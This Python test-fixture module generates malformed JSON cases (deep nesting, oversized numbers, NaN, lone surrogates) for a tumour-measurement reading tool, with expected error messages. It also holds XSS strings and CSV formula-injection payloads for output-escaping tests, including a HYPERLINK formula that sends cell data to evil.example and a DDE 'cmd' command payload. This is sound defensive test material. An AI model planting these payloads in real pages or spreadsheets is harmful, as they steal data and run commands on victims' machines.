"""The hostile corpus of issue 12 (outputs, input files, security), generated.

Every case is built here, in code, so the corpus needs no stored files and a
test can name the case it failed on.  Each entry is ``(name, text, expected)``:
the JSON text of a case file and a fragment the one-line error must contain.
The first entries are the issue's findings; the rest are the next hostile case
of each kind (built for this fix).
"""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path
from typing import Any

BASE_DATE = dt.date(2026, 1, 5)


def case_text(diameter: str = "30", *, site: str = '"LIVER"', extra: str = "") -> str:
    """A one-target case whose baseline diameter is the raw JSON ``diameter``."""
    return (
        '{"id": "h", "baseline": {"date": "2026-01-05", "targets": [{"id": "T01", '
        f'"site": {site}, "nodal": false, "diameter_mm": {diameter}}}]}}, '
        '"followups": [{"date": "2026-03-02", "targets": {"T01": 20}}]'
        f"{extra}}}"
    )


def _deep(n: int, open_: str = "[", close: str = "]") -> str:
    return '{"id": "x", "baseline": ' + open_ * n + close * n + "}"


#: (name, JSON text, fragment of the one-line error)
BAD_JSON: list[tuple[str, str, str]] = [
    # the findings
    ("nested-900-arrays", _deep(900), "nested deeper than 64"),
    ("nested-900-objects", _deep(900, '{"a":', "}").replace("}}", "1}}", 1), "nested"),
    ("int-5000-digits", case_text("1" * 5000), "longer than 40 characters"),
    ("diameter-1e999999999", case_text("1e999999999"), "out of range"),
    ("diameter-1e309", case_text("1e309"), "out of range"),
    ("lone-surrogate-site", case_text(site='"\\ud800"'), "lone surrogate"),
    # the next case of each kind
    ("nested-100000", _deep(100_000), "nested deeper than 64"),
    ("nested-995-arrays", "[" * 995 + "]" * 995, "nested deeper than 64"),
    ("nested-65-exactly", _deep(65), "nested deeper than 64"),
    ("int-4300-digits", case_text("9" * 4300), "longer than 40 characters"),
    ("diameter-1e-400", case_text("1e-400"), "out of range"),
    ("diameter-1e7-mm", case_text("1e7"), "1 km"),
    ("diameter-big-int", case_text("10000000000"), "1 km"),
    ("nan-token", case_text("NaN"), "finite"),
    ("minus-infinity", case_text("-Infinity"), "finite"),
    (
        "endpoint-nan",
        case_text('30, "endpoints_lps": [[0, 0, NaN], [1, 1, 1]]'),
        "endpoints_lps",
    ),
    (
        "days-1e30",
        case_text(extra=', "options": {"confirmation_min_days": 1' + "0" * 30 + "}"),
        "confirmation_min_days",
    ),
    ("lone-surrogate-key", case_text(extra=', "\\udc00": 1'), "lone surrogate"),
    ("lone-low-surrogate-id", case_text().replace('"h"', '"\\udfff"'), "surrogate"),
    ("reversed-pair", case_text(site='"\\ude00\\ud83d"'), "lone surrogate"),
]


def good_surrogate_pair() -> str:
    """A case whose site is an emoji written as a (valid) surrogate pair."""
    return case_text(site='"LIVER \\ud83d\\ude00"')


def reading_doc(
    subject: str, *, reader: str = "R1", lesion: str = "T01", site: str = "LIVER"
) -> dict[str, Any]:
    """A small valid reading (baseline + 2 follow-ups) for export tests."""
    return {
        "subject_id": subject,
        "reader": reader,
        "baseline": {
            "date": "2026-01-05",
            "targets": [
                {"id": lesion, "site": site, "nodal": False, "diameter_mm": 40},
                {"id": "T02", "site": "LUNG", "nodal": False, "diameter_mm": 22},
            ],
        },
        "followups": [
            {"date": "2026-03-02", "targets": {lesion: 25, "T02": 14}},
            {"date": "2026-04-30", "targets": {lesion: 24, "T02": 15}},
        ],
    }


def write_readings(folder: Path, n: int, **kw: Any) -> list[Path]:
    """Write ``n`` readings (subjects S0000...) as JSON files."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for i in range(n):
        path = folder / f"s{i:04d}.json"
        path.write_text(json.dumps(reading_doc(f"S{i:04d}", **kw)), encoding="utf-8")
        paths.append(path)
    return paths


#: Text payloads for HTML and CSV outputs.
XSS = [
    '"><script>alert(1)</script>',
    "x' onerror='alert(2)",
    '" onload="alert(3)',
    "</title><img src=x onerror=alert(4)>",
    "<svg/onload=alert(5)>",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign
    "'=already quoted",
]
